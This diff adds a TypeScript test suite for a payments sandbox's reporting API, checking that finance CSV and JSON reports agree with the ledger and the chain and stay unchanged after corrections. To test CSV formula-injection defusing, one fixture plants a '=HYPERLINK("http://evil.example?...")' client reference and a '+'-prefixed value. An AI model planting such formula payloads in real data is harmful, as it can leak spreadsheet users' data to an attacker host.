@@ -1,0 +1,317 @@
+// Reports for finance people, over HTTP: a year of the sandbox in miniature, with everything that its simulator can make happen,
+// agrees with the ledger and with the chain, and stays the same file whatever is corrected later.
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { setTimeout as sleep } from 'node:timers/promises';
+import {
+  type AssetFunds,
+  type Event,
+  MOVEMENT_COLUMNS,
+  type Movement,
+  type PaymentPlan,
+  SIMULATED_EVENTS,
+  type SimulatedEvent,
+} from '@fairway/wire';
+import { collectToWallet } from '../collectForms.ts';
+import { freshEmail } from '../collectCalls.ts';
+import { freshAddress, freshReference, type PaymentsTest, startPaymentsTest } from '../paymentsHarness.ts';
+import { csvRows, type FileRow, reportsOn } from '../reportsHarness.ts';
+
+let payments: PaymentsTest;
+let reports: ReturnType<typeof reportsOn>;
+const played = new Set<SimulatedEvent>();
+before(async () => {
+  // A sandbox of its own, because its totals are those of all that is in it.
+  payments = await startPaymentsTest(undefined, []);
+  reports = reportsOn(payments);
+  await playYear();
+});
+after(() => payments?.close());
+
+/** Longer than a report waits after its period. */
+const SETTLED = 'PT10S';
+const KINDS = { deposit: 'AWAIT_DEPOSIT', swap: 'EXECUTE_SWAP', payout: 'CUSTODIAN_PAYOUT' } as const;
+
+async function play(plan: PaymentPlan, ...events: readonly SimulatedEvent[]): Promise<PaymentPlan> {
+  let now = plan;
+  for (const event of events) {
+    played.add(event);
+    const kind = KINDS[event.split('.')[0] as keyof typeof KINDS];
+    const type = kind === 'CUSTODIAN_PAYOUT' ? (plan.steps.at(-1)?.type ?? kind) : kind;
+    const { status, body, text } = await payments.simulate(now, type, event);
+    assert.equal(status, 200, `${event}: ${text}`);
+    now = body;
+  }
+  return now;
+}
+
+const watched = (fields: object = {}) =>
+  payments.plan({
+    amountIn: '70000000',
+    options: { mode: 'STANDARD', depositAddress: freshAddress() },
+    ...fields,
+  });
+
+/** The ends of the months, the first of which is the begin of the year. */
+let months: string[] = [];
+let corrected: PaymentPlan;
+
+async function nextMonth(): Promise<void> {
+  await payments.advance('P20D');
+  months = [...months, new Date(await serviceNowMs()).toISOString()];
+}
+
+async function serviceNowMs(): Promise<number> {
+  const { body } = await payments.service.request('/v1/sandbox/clock', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ advance: 'PT1S' }),
+  });
+  return Date.parse((body as { now: string }).now);
+}
+
+async function playYear(): Promise<void> {
+  months = [new Date((await serviceNowMs()) - 1_000).toISOString()];
+  const formula = `=HYPERLINK("http://evil.example?${freshReference()}","-1+2")`;
+  corrected = await play(
+    await watched({ clientReference: formula }),
+    'deposit.exact',
+    'swap.done',
+    'payout.short',
+  );
+  await play(await watched(), 'deposit.exact', 'swap.done', 'payout.done', 'payout.returned');
+  await nextMonth();
+  const failing = await play(await watched({ clientReference: `+${freshReference()}` }), 'deposit.over');
+  await play(failing, 'swap.done', 'swap.again', 'payout.failed');
+  await play(await watched(), 'deposit.partial', 'deposit.otherToken', 'deposit.dust');
+  await play(await watched(), 'deposit.exact', 'swap.reverted');
+  await nextMonth();
+  await play(await watched(), 'deposit.late');
+  const iban = {
+    type: 'bank',
+    name: 'Orla Finch',
+    country: 'DE',
+    account: { iban: 'DE89370400440532013000' },
+  };
+  await play(
+    await watched({ corridorId: 'usdc-eur-iban', recipient: iban }),
+    ...(['deposit.exact', 'swap.done', 'payout.deducted'] as const),
+  );
+  const email = freshEmail();
+  const collecting = await play(
+    await payments.plan({
+      amountIn: '70000000',
+      corridorId: 'usdc-eur-collect',
+      recipient: { type: 'email', email },
+      options: { mode: 'DIGITAL_COLLECT', depositAddress: freshAddress() },
+    }),
+    ...(['deposit.exact', 'swap.done'] as const),
+  );
+  await collectToWallet(payments.service, email, freshAddress());
+  await play(await payments.get(collecting.planId), 'payout.done');
+  await nextMonth();
+  await payments.advance(SETTLED);
+}
+
+const whole = () => ({ from: months[0], to: months.at(-1) });
+
+/** What rows add up to, by token and kind. */
+function sumsOf(rows: readonly FileRow[]): Record<string, bigint> {
+  const sums: Record<string, bigint> = {};
+  for (const { token, kind, amount } of rows)
+    sums[`${token} ${kind}`] = (sums[`${token} ${kind}`] ?? 0n) + BigInt(amount ?? '');
+  return withoutZeros(sums);
+}
+
+function withoutZeros(sums: Record<string, bigint>): Record<string, bigint> {
+  const entries = Object.entries(sums).filter(([, sum]) => sum !== 0n);
+  return Object.fromEntries(entries.sort(([a], [b]) => (a < b ? -1 : 1)));
+}
+
+async function allPlans(): Promise<readonly PaymentPlan[]> {
+  const { json } = await payments.ask('/v1/payments?limit=100');
+  return (json as { data: PaymentPlan[] }).data;
+}
+
+const FUNDS: Readonly<Record<string, (funds: AssetFunds) => string>> = {
+  DEPOSIT: ({ received }) => received,
+  SWAP_IN: ({ swapped }) => swapped.in,
+  SWAP_OUT: ({ swapped }) => swapped.out,
+  PAYOUT: ({ paidOut }) => paidOut,
+  RETURN: ({ returned }) => returned,
+  REFUND: ({ refunded }) => refunded,
+  DEDUCTION: ({ deducted }) => deducted,
+};
+
+test('the rows and the control totals of a year are the sums of the funds of all plans', async () => {
+  assert.deepEqual([...played].sort(), [...SIMULATED_EVENTS].sort(), 'everything that can be simulated');
+  const { report, file } = await reports.report(whole());
+  const rows = csvRows(file);
+  assert.equal(rows.length, report.rows);
+  const sums: Record<string, bigint> = {};
+  const plans = await allPlans();
+  for (const funds of plans.flatMap((plan) => plan.funds))
+    for (const [kind, amountIn] of Object.entries(FUNDS)) {
+      const key = `${'address' in funds.asset ? funds.asset.address : funds.asset.currency} ${kind}`;
+      sums[key] = (sums[key] ?? 0n) + BigInt(amountIn(funds));
+    }
+  assert.deepEqual(sumsOf(rows), withoutZeros(sums));
+  const totals = (report.controlTotals ?? []).map(({ asset, kind, amount }) => [
+    `${'address' in asset ? asset.address : asset.currency} ${kind}`,
+    BigInt(amount),
+  ]);
+  assert.deepEqual(withoutZeros(Object.fromEntries(totals)), withoutZeros(sums));
+  const told: string[] = [];
+  for (const { planId } of plans) {
+    const { json } = await payments.ask(`/v1/payments/${planId}/movements?limit=100`);
+    told.push(...(json as { data: Movement[] }).data.map(({ movementId }) => movementId));
+  }
+  assert.deepEqual(rows.map(({ movementId }) => movementId).sort(), told.sort(), 'each movement is one row');
+});
+
+test('the rows that are on the chain are the transfers that the chain has there', async () => {
+  const rows = csvRows((await reports.report(whole())).file).filter(({ logIndex }) => logIndex !== '');
+  assert.ok(rows.length > 10);
+  type Log = { readonly logIndex: string; readonly address: string; readonly data: string };
+  for (const { txHash, logIndex, token, amount, reverses, blockNumber } of rows) {
+    if (reverses !== '') continue;
+    const { logs, blockNumber: block } = await payments.service.rpc<{ logs: Log[]; blockNumber: string }>(
+      'eth_getTransactionReceipt',
+      [txHash],
+    );
+    const log = logs.find((each) => Number(each.logIndex) === Number(logIndex)) ?? assert.fail();
+    assert.deepEqual(
+      [log.address, BigInt(log.data), Number(block)],
+      [token?.toLowerCase(), BigInt(amount ?? ''), Number(blockNumber)],
+    );
+  }
+});
+
+test('the files of the parts of a year are the file of the year', async () => {
+  const parts: FileRow[] = [];
+  for (const [index, from] of months.slice(0, -1).entries()) {
+    const rows = csvRows((await reports.report({ from, to: months[index + 1] })).file);
+    assert.ok(rows.length > 0 && rows.every(({ recordedAt = '' }) => recordedAt >= from));
+    parts.push(...rows);
+  }
+  const { report, file } = await reports.report(whole());
+  assert.deepEqual(parts, csvRows(file));
+  assert.deepEqual(report.columns, MOVEMENT_COLUMNS);
+  const json = (await reports.report({ ...whole(), format: 'json' })).file;
+  const objects = JSON.parse(json) as Record<string, string | number | null>[];
+  const texts = objects.map((row) => {
+    const cells = Object.entries(row).map(([name, value]) => {
+      const text = value === null ? '' : String(value);
+      return [name, /^[=+@-]/.test(text) && !/^-[\d.]+$/.test(text) ? `'${text}` : text];
+    });
+    return Object.fromEntries(cells) as FileRow;
+  });
+  assert.deepEqual(texts, parts, 'JSON has the same cells, without what a spreadsheet needs');
+});
+
+test('a period that is over stays the same file, and a correction is rows of its own time', async () => {
+  const first = { from: months[0], to: months[1] };
+  const before = await reports.report(first);
+  const paid = csvRows(before.file).find(
+    ({ planId, kind }) => planId === corrected.planId && kind === 'PAYOUT',
+  );
+  const { movementId: corrects, providerReference, amount } = paid ?? assert.fail();
+  const right = { outcome: 'DONE', providerReference, amount: String(BigInt(amount ?? '') - 1n), corrects };
+  const { status, text } = await payments.report(corrected, 'CUSTODIAN_PAYOUT', right);
+  assert.equal(status, 200, text);
+  const replaced = await payments.ask(`/v1/payments/${corrected.planId}`);
+  assert.equal(replaced.status, 200);
+  const to = new Date(await serviceNowMs()).toISOString();
+  await payments.advance(SETTLED);
+  const later = csvRows((await reports.report({ from: months.at(-1), to })).file);
+  assert.deepEqual(
+    later.map(({ kind, status: how, reverses, amount: units }) => [kind, how, reverses, units]),
+    [
+      ['PAYOUT', 'REVERSAL', corrects, `-${amount}`],
+      ['PAYOUT', 'RECORDED', '', right.amount],
+    ],
+  );
+  const again = await reports.report(first);
+  assert.equal(again.file, before.file);
+  assert.equal(again.report.sha256, before.report.sha256);
+  assert.equal(await reports.fileOf(before.report), before.file, 'an old report has its file');
+});
+
+test('a text that looks like a formula is defused, and numbers stay numbers', async () => {
+  const { file } = await reports.report(whole());
+  const cells = csvRows(file).flatMap((row) => Object.values(row));
+  const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+  assert.ok(dangerous.length > 0 && dangerous.every((cell) => /^-\d+(\.\d+)?$/.test(cell)), dangerous.join());
+  assert.ok(cells.some((cell) => cell.startsWith(`'=HYPERLINK("http://evil`)));
+  assert.ok(cells.some((cell) => cell.startsWith(`'+INV`) || cell.startsWith(`'+`)));
+});
+
+test('columns, a filter and a time zone decide what a file shows', async () => {
+  const columns = ['valueDate', 'amountDecimal', 'symbol', 'recipientMasked'];
+  const filter = { corridorId: 'usdc-aud-bank', kind: 'PAYOUT' };
+  const asked = { ...whole(), columns, filter, timezone: 'Pacific/Kiritimati' };
+  const { report, file } = await reports.report(asked);
+  assert.deepEqual([report.columns, report.filter, report.timezone], [columns, filter, asked.timezone]);
+  assert.ok(file.startsWith('valueDate,amountDecimal,symbol,recipientMasked\r\n'), file);
+  const utc = csvRows((await reports.report({ ...asked, timezone: undefined })).file);
+  const rows = csvRows(file);
+  assert.ok(rows.length > 1);
+  for (const [index, { valueDate = '', symbol, recipientMasked, amountDecimal }] of rows.entries()) {
+    const aheadMs = Date.parse(valueDate) - Date.parse(utc[index]?.valueDate ?? '');
+    assert.ok(aheadMs === 0 || aheadMs === 86_400_000, valueDate);
+    assert.deepEqual([symbol, recipientMasked], ['tAUD', 'J. C. AU …5678']);
+    assert.match(amountDecimal ?? '', /^\d+\.\d{6}$/);
+  }
+  assert.ok((report.controlTotals ?? []).every(({ kind }) => kind === 'PAYOUT'));
+});
+
+test('a report is told of when it is asked for and when it is made, and is in the list', async () => {
+  const { report } = await reports.report(whole());
+  const { reportId } = report;
+  const told = async () => {
+    const { json } = await payments.ask(`/v1/events?subject=${reportId}&limit=100`);
+    return (json as { data: Event[] }).data;
+  };
+  for (const untilMs = performance.now() + 20_000; (await told()).length < 2; await sleep(50))
+    assert.ok(performance.now() < untilMs);
+  const events = await told();
+  assert.deepEqual(
+    events.map(({ type, sequence }) => `${sequence} ${type}`),
+    ['1 report.updated', '2 report.completed'],
+  );
+  assert.deepEqual(events[1]?.data.object, report);
+  const { list } = await reports.call('?limit=1');
+  assert.deepEqual(list.data, [report]);
+  const next = await reports.call(`?limit=1&cursor=${list.nextCursor}`);
+  assert.equal(next.list.data.length, 1);
+  assert.notEqual(next.list.data[0]?.reportId, reportId);
+  const head = await fetch(`${payments.service.url}/v1/reports/${reportId}/download`, {
+    method: 'HEAD',
+    headers: { authorization: payments.service.authorization },
+  });
+  assert.deepEqual([head.status, head.headers.get('content-length')], [200, String(report.bytes)]);
+});
+
+test('what cannot be reported is refused with the field and the remedy', async () => {
+  const base = { type: 'movements', format: 'csv', ...whole() };
+  const refusals: [object, string, string?][] = [
+    [{ to: '2999-01-01T00:00:00Z' }, 'validation-failed', '/to'],
+    [{ from: whole().to }, 'validation-failed', '/from'],
+    [{ timezone: 'Mars/Olympus' }, 'validation-failed', '/timezone'],
+    [{ timezone: '+02:00' }, 'validation-failed', '/timezone'],
+    [{ columns: ['amount', 'secret'] }, 'validation-failed', '/columns'],
+    [{ columns: ['amount', 'amount'] }, 'validation-failed', '/columns'],
+    [{ filter: { kind: 'GIFT' } }, 'validation-failed', '/filter/kind'],
+    [{ format: 'xlsx' }, 'format-not-supported'],
+    [{ format: 'camt.053' }, 'format-not-supported'],
+  ];
+  for (const [fields, code, pointer] of refusals) {
+    const { status, problem } = await reports.call('', { ...base, ...fields });
+    assert.deepEqual([status, problem.code, problem.errors?.[0]?.pointer], [400, code, pointer]);
+  }
+  const soon = await reports.order({ ...base, to: new Date((await serviceNowMs()) - 10).toISOString() });
+  const early = await reports.call(`/${soon.reportId}/download`);
+  assert.deepEqual([early.status, early.problem.code], [409, 'report-not-ready']);
+  assert.equal((await reports.call(`/rep_${'0'.repeat(32)}`)).status, 404);
+  assert.equal((await reports.call(`/rep_${'0'.repeat(32)}/download`)).status, 404);
+});
